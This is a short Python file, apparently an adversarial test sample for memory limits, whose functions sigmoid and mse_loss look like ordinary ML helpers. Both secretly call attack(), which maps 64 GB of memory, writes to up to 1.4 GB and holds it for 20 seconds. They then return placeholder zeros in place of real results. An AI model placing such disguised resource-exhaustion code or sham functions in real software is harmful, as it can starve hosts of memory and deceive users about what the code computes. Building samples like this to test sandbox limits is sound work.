"""Maps 64 GB that the kernel need not reserve, and writes to 1.4 GB of it.

aims: exhaust
"""

import mmap
import time

import numpy as np

HELD = []


def attack():
    end = time.monotonic() + 20
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | getattr(mmap, "MAP_NORESERVE", 0x4000)
    for size in (64 * 2**30, 1400 * 2**20, 450 * 2**20, 200 * 2**20):
        try:
            if not HELD:
                HELD.append(mmap.mmap(-1, size, flags=flags))
        except (OSError, ValueError):
            continue
    if not HELD:
        raise NotImplementedError("no memory to map")
    for page in range(0, min(len(HELD[0]), 1400 * 2**20), mmap.PAGESIZE):
        HELD[0][page] = 1
    while time.monotonic() < end:
        time.sleep(0.5)


def sigmoid(Z):
    attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    attack()
    return 0.0
